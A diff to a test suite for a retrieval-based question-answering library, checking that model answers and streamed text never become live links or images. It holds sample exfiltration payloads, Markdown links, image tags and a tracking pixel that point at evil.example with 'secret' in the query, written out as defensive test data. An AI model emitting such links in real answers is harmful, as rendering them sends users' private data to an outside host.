@@ -6,35 +6,33 @@ import asyncio
 import csv
 import io
 import json
-import re
 from pathlib import Path
 
 import pytest
 
-from ragways.core.text import defused, printable
+from ragways.core.stream import OutgoingText
+from ragways.core.text import printable
 from ragways.index.build import build
 from ragways.index.export import export
 from ragways.index.layers import LAYERS
 from ragways.index.reader import Index
-from ragways.models.call import Reply
 from ragways.models.client import ModelClient
+from ragways.retrieval.as_plain import result_data
 from ragways.retrieval.ask import PARADIGMS, ask
 from ragways.retrieval.resources import Resources
 from ragways.tasks.themes import THEMES, ThemesInput
 from ragways.testing.scripted import ScriptedModel
 from tests.fakes import WordHashes, recipe, write
+from tests.rendered import dangers
 
 URL = "https://evil.example/collect?q=secret"
 LIVE = f"[click here]({URL}) <img src={URL}> <{URL}> www.evil.example/x ![pixel]({URL})"
+LEAK = LIVE.replace(URL, f"{URL}&question=secret")
+"""The same with what only the model knows."""
 TOWERS = [f"Tower {name}" for name in ("Abel", "Berta", "Corran", "Dora", "Edda", "Finn")]
 MEMORY = next(name for name, paradigm in PARADIGMS.items() if not paradigm.needs)
 """The paradigm that answers from what a model knows."""
 QUESTION = "When was the Tower Abel built by Ida Quill?"
-
-
-def live(text: str) -> list[str]:
-    """What a renderer of Markdown or HTML would load, follow or run."""
-    return re.findall(r"\]\(|!\[|\]:|[a-z]://|<[a-z/!]|\bwww\.\w|javascript:", text, re.IGNORECASE)
 
 
 @pytest.fixture(scope="module")
@@ -61,47 +59,41 @@ def use(folder: Path):
 
 
 @pytest.mark.parametrize("name", list(PARADIGMS))
-def test_nothing_in_an_answer_of_any_paradigm_is_live(use: Resources, name: str):
-    pieces: list[str] = []
+def test_nothing_that_leaves_is_live_whatever_the_paradigm(use: Resources, name: str):
+    shown = ""
 
-    def heard(text: str, *, restart: bool = False) -> None:
-        pieces.append(text)
+    def take(text: str, *, restart: bool = False) -> None:
+        nonlocal shown
+        shown = text if restart else shown + text
 
-    result = asyncio.run(ask(use, QUESTION, name, on_text=heard))
-    assert not live(result.answer.text), result.answer.text
-    assert not live("".join(pieces))
+    result = asyncio.run(ask(use, QUESTION, name, on_text=OutgoingText(take)))
+    evidence = result.answer.evidence.texts
+    data = result_data(result)
+    assert not dangers(data["answer"], evidence), data["answer"]
+    assert not dangers(data["explanation"], evidence)
+    assert not dangers(shown, evidence)
     for citation in (each for each in result.answer.citations if each.document.startswith("article:")):
         assert citation.quote == use.index.text(citation.document, citation.start, citation.end)
 
 
-def test_addresses_stay_to_be_read(use: Resources):
-    said = asyncio.run(ask(use, QUESTION, "naive")).answer.text
-    assert "evil.example/collect" in said
-    assert "click here" in said
-
-
 @pytest.mark.parametrize("name", ["naive", MEMORY])
-def test_what_a_model_writes_is_never_live_not_even_while_it_is_written(use: Resources, name: str):
-    said = {"answer": LIVE} if name == MEMORY else {"sentences": [{"text": f"In 1904 {LIVE}", "passages": []}]}
-    wanted = {"answered": True, **said}
-    model = ScriptedModel([Reply(json.dumps(wanted))])
-    use.model = ModelClient(model)
+def test_what_a_model_writes_is_raw_in_python_and_never_live_where_it_leaves(use: Resources, name: str):
+    wrote = f"In 1904 {LEAK}"
+    use.model = ModelClient(ScriptedModel([wrote]))
     shown = ""
 
-    def heard(text: str, *, restart: bool = False) -> None:
+    def take(text: str, *, restart: bool = False) -> None:
         nonlocal shown
         shown = text if restart else shown + text
-        assert not live(shown)
+        assert "![" not in shown
+        assert "<img" not in shown
 
-    result = asyncio.run(ask(use, QUESTION, name, on_text=heard))
-    assert not live(result.answer.text)
-    assert shown == result.answer.text
+    result = asyncio.run(ask(use, QUESTION, name, on_text=OutgoingText(take)))
+    assert result.answer.text == wrote
+    evidence = result.answer.evidence.texts
+    assert shown == result_data(result)["answer"]
     assert "evil.example" in shown
-
-
-def test_growing_text_is_harmless_at_every_length():
-    for end in range(len(LIVE) + 1):
-        assert not live(defused(LIVE[:end]))
+    assert not dangers(shown, evidence or [URL + "&question=secret"]), "links stay where no document was shown"
 
 
 def test_a_title_stands_in_a_fence_when_themes_are_asked_for():
